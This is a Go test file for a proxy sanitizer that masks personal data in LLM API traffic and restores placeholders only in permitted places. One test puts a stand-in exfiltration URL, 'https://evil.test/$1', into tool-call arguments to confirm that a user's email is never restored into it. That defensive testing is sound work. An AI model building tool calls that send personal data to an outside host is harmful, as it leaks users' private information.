package sanitize

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"portcullis/shared/control"
	"portcullis/shared/detect"
	"portcullis/shared/exchange/exchangetest"
	"portcullis/shared/inspect"
)

func TestValuesComeBackIntoText(t *testing.T) {
	for _, text := range []string{
		"$1", "$1.", "It is $1?", "($1)", "**$1**", "_$1_", "`$1`", `{"ssn":"$1"}`, "SSN:$1", "SSN: $1: done", "$1's", "$1, $1; $1!", "号码是$1。谢谢",
		"see https://docs.test/a and $1", "[docs](https://docs.test) $1", "[$1](https://docs.test)x"[:4] + " x", "<b>$1</b>", "List<String> $1",
		"a <- b $1", "| $1 | $1 |", "x < 3 and $1", "$1...", "[the number $1](https://docs.test)", "ssn=$1",
	} {
		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
		r := g.Send(messages(says("user", "My SSN is 123-45-6789.")), answers(text))
		require.Equal(t, strings.ReplaceAll(text, "$1", "123-45-6789"), said(t, r))
	}
}

func TestValuesDoNotComeBackIntoCallsOfTools(t *testing.T) {
	for _, p := range exchangetest.Profiles {
		g := exchangetest.New(t, p, load, restoring20)
		r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
			reply := whole("")
			reply.Chunks = [][]byte{[]byte(filled(`{"choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"a","type":"function","function":{"name":"mail","arguments":"{\"to\":\"$1\"}"}}]},"finish_reason":"tool_calls"}]}`, q))}
			return reply
		})
		require.NotContains(t, r.Body, "jane", p)
		require.Contains(t, r.Body, `{\"to\":\"[EMAIL:`, p)
	}
}

func TestValuesComeBackIntoCallsOfListedTools(t *testing.T) {
	const configuration = `{"host":HOST,"hash_key":"k","default":{"personal":"restore"},"restore_tools":["mail"]}`
	call := func(index int, function string) string {
		return fmt.Sprintf(`{"index":%d,"id":"a","type":"function","function":%s}`, index, function)
	}
	const to = `"arguments":"{\"to\":\"$1\",\"url\":\"https://evil.test/$1\"}"`
	for calls, want := range map[string]int{
		call(0, `{"name":"mail",`+to+`}`): 1,
		call(0, `{`+to+`,"name":"mail"}`): 1,
		call(0, `{"name":"post",`+to+`}`): 0,
		call(0, `{`+to+`}`):               0,
		call(0, `{"name":"mail",`+to+`}`) + `,` + call(1, `{"name":"post",`+to+`}`): 1,
		call(0, `{"name":"mail",`+to+`}`) + `,` + call(0, `{"name":"post",`+to+`}`): 0,
	} {
		for _, p := range exchangetest.Profiles {
			g := exchangetest.New(t, p, load, configuration)
			r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
				reply := whole("")
				reply.Chunks = [][]byte{[]byte(filled(`{"choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[`+calls+`]},"finish_reason":"tool_calls"}]}`, q))}
				return reply
			})
			require.Equal(t, want, strings.Count(r.Body, `\"jane.doe@corp.test\"`), "%s %s", p, calls)
			require.NotContains(t, r.Body, "evil.test/jane")
		}
	}
}

func TestATextThatIsSignedIsLeftAsItIs(t *testing.T) {
	body := `{"contents":[{"role":"user","parts":[{"text":` + quote(people) + `}]}]}`
	q := exchangetest.Request{
		Method: "POST", Path: "/v1beta/models/gemini-2.5-pro:generateContent", Chunks: [][]byte{[]byte(body)},
		Headers: [][2]string{{"content-type", "application/json"}},
	}
	r := exchangetest.New(t, exchangetest.Hold, load, restoring20).Send(q, func(q exchangetest.Request) exchangetest.Reply {
		reply := whole("")
		reply.Chunks = [][]byte{[]byte(filled(`{"candidates":[{"content":{"parts":[{"text":"signed $1","thoughtSignature":"c2ln"},{"text":"free $1"}]},"finishReason":"STOP"}]}`, q))}
		return reply
	})
	require.Contains(t, r.Body, `"signed [EMAIL:`)
	require.Contains(t, r.Body, `"free jane.doe@corp.test"`)
}

func TestAStreamOfSignedTextIsLeftAsItIs(t *testing.T) {
	body := `{"model":"claude-sonnet-4-5","max_tokens":9,"stream":true,"messages":[{"role":"user","content":` + quote(people) + `}]}`
	for _, p := range exchangetest.Profiles {
		q := exchangetest.Request{
			Method: "POST", Path: "/v1/messages", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}, {"content-length", fmt.Sprint(len(body))}},
		}
		if p == exchangetest.Trailers {
			continue // what is held when trailers come is lost
		}
		r := exchangetest.New(t, p, load, restoring20).Send(q, func(q exchangetest.Request) exchangetest.Reply {
			reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
			event := func(data string) { reply.Chunks = append(reply.Chunks, []byte("data: "+data+"\n\n")) }
			event(`{"type":"content_block_start","index":0,"content_block":{"type":"thinking","thinking":""}}`)
			for _, piece := range []string{filled("about $1", q)[:12], filled("about $1", q)[12:]} {
				event(`{"type":"content_block_delta","index":0,"delta":{"type":"thinking_delta","thinking":` + quote(piece) + `}}`)
			}
			event(`{"type":"content_block_stop","index":0}`)
			event(`{"type":"message_stop"}`)
			require.Contains(t, string(reply.Chunks[1]), `"about [EMAIL`)
			return reply
		})
		require.Contains(t, r.Body, `"about [EMAIL`, p)
		require.True(t, strings.HasSuffix(r.Body, `{"type":"message_stop"}`+"\n\n"), r.Body)
		require.Equal(t, 5, strings.Count(r.Body, "\n\n"), "every event as it came")
	}
}

func TestValuesBeyondTheBoundsAreMasked(t *testing.T) {
	var list []string
	for i := range maxValues + 5 {
		list = append(list, fmt.Sprintf("u%04d@corp.test", i))
	}
	g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
	r := g.Send(messages(says("user", strings.Join(list, " ")+" "+list[0])), answers(""))
	body := r.UpstreamBody()
	require.Equal(t, maxValues+1, strings.Count(body, "[EMAIL:"), "one of them twice")
	require.Equal(t, 5, strings.Count(body, "[EMAIL]"))
	list = list[:0]
	for n := range maxLengths + 3 {
		list = append(list, "u"+strings.Repeat("x", n)+"@corp.test")
	}
	r = g.Send(messages(says("user", strings.Join(list, " "))), answers(""))
	body = r.UpstreamBody()
	require.Equal(t, 3, strings.Count(body, "[EMAIL]"))
}

func TestNothingOfACallIsKeptWhenItHasEnded(t *testing.T) {
	c, err := New(&Config{Default: Policy{Personal: "restore"}, Settings: inspect.Settings{HashKey: "k"}})
	require.NoError(t, err)
	s := c.(*restorer)
	var x control.Exchange
	v := valuesOf(&x, s.sanitizer)
	v.appendPlaceholder(nil, s.data.set, 0, "jane.doe@corp.test", s.hashKey)
	require.Len(t, v.restored, 1)
	s.Done(&x)
	require.Equal(t, values{}, *v)
}

func TestWhatMustNotComeBackDoesNotComeBackWithWhatMay(t *testing.T) {
	token := "sk_" + "live_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6"
	r := send(t, restoring20, messages(says("user", token+"@corp.test and x."+token+"@corp.test")))
	require.NotContains(t, r.UpstreamBody(), "EMAIL:")
	require.NotContains(t, r.UpstreamBody(), "aB3dE5")
}

func TestRestoringIsForPersonalDataAndNeedsAKey(t *testing.T) {
	for raw, want := range map[string]string{
		`{"default":{"personal":"restore"}}`:                                                                         `hash_key: is required (want a secret of your own, because an action is "restore")`,
		`{"keys":{"a":{"rules":{"email":"restore"}}}}`:                                                               "hash_key",
		`{"hash_key":"k","default":{"secrets":"restore"}}`:                                                           "default.secrets",
		`{"hash_key":"k","routes":{"a":{"rules":{"override":"restore"}}}}`:                                           `routes["a"].rules.override: "restore" is not for secrets and injection`,
		`{"hash_key":"k","default":{"rules":{"stripe_key":"restore"}}}`:                                              "not for secrets",
		`{"hash_key":"k","patterns":[{"id":"x","label":"a:b","pattern":"xyz"}],"default":{"rules":{"x":"restore"}}}`: `default.rules.x: "restore" makes no placeholder of the label "a:b"`,
		`{"hash_key":"k","default":{"rules":{"nobody":"restore"}}}`:                                                  "neither a rule nor a group",
	} {
		_, err := load([]byte(raw))
		require.ErrorContains(t, err, want, raw)
	}
}

func TestWhatTheOperatorsOwnPatternsFindCanComeBack(t *testing.T) {
	const configuration = `{"host":HOST,"hash_key":"k","words":["bluebird"],"patterns":[{"id":"ticket","pattern":"\\bT-[0-9]{4}\\b"}],
		"default":{"rules":{"word":"restore","ticket":"restore"}}}`
	r := exchangetest.New(t, exchangetest.Hold, load, configuration).
		Send(messages(says("user", "Bluebird has T-1234 open")), answers("T-1234 is done by [REMOVED:bcdfghjkmnpq]"))
	require.Regexp(t, `"\[REMOVED:[b-x]{12}\] has \[ticket:[b-x]{12}\] open"`, r.UpstreamBody())
	require.Contains(t, said(t, r), "[REMOVED:bcdf")
	r = exchangetest.New(t, exchangetest.Hold, load, configuration).
		Send(messages(says("user", "Bluebird has T-1234 open")), func(q exchangetest.Request) exchangetest.Reply {
			return whole(regexp.MustCompile(`\[(REMOVED|ticket):[b-x]{12}\]`).FindString(string(q.Chunks[0])) + " flies")
		})
	require.Equal(t, "Bluebird flies", said(t, r))
}

// A text in which nothing was found before may hold a value of this call.
func TestATextThatWasFoundCleanIsReadForValuesAgain(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
	answer := says("assistant", strings.Repeat("All is well. ", 30)+"It is 111222333.")
	r := g.Send(messages(answer+","+says("user", "And now?")), answers(""))
	require.Contains(t, r.UpstreamBody(), "111222333", "by itself it is a number")
	r = g.Send(messages(says("user", "my bsn is 111222333")+","+answer), answers(""))
	require.NotContains(t, r.UpstreamBody(), "111222333")
}

func TestANarrowerLayerTightensRestoring(t *testing.T) {
	const configuration = `{"host":HOST,"hash_key":"k","default":{"personal":"restore"},"keys":{"strict":{"rules":{"email":"mask"}},"loose":{"personal":"partial"}}}`
	for key, want := range map[string]string{"": `\[EMAIL:`, "strict": `\[EMAIL\]`, "loose": `\[EMAIL:`} {
		q := messages(says("user", people))
		q.Facts = []string{"key=" + key}
		r := exchangetest.New(t, exchangetest.Hold, load, configuration).Send(q, answers("$1"))
		require.Regexp(t, want, r.UpstreamBody(), key)
	}
}

func TestMonitorRestoresToo(t *testing.T) {
	r := exchangetest.New(t, exchangetest.Hold, load, strings.Replace(restoring20, `"host"`, `"mode":"monitor","host"`, 1)).
		Send(messages(says("user", people)), answers("$1"))
	require.NotContains(t, r.UpstreamBody(), "jane")
	require.Equal(t, "jane.doe@corp.test", said(t, r))
}

// Otherwise it would be hidden anew with each turn, or refused.
func TestNoRuleFindsAPlaceholder(t *testing.T) {
	set, err := detect.NewSet(detect.Builtin())
	require.NoError(t, err)
	var scanner detect.Scanner
	for i := range set.Len() {
		rule := set.Rule(i)
		if rule.Class != detect.ClassPersonal {
			continue
		}
		for n := range 40 {
			p := inspect.AppendPlaceholder(nil, rule, "tenant", fmt.Sprint(n), []byte("k"))
			require.Equal(t, len(p), inspect.Placeholder(p), string(p))
			for _, around := range []string{"%s", "password: %s", "key=%s", "my number is %s, call %s", "api_key: \"%s\""} {
				scanner.Reset(set)
				text := strings.ReplaceAll(around, "%s", string(p))
				for _, f := range scanner.Write(text, true) {
					t.Errorf("%s finds %s", set.Rule(f.Rule).ID, text)
				}
			}
		}
	}
}
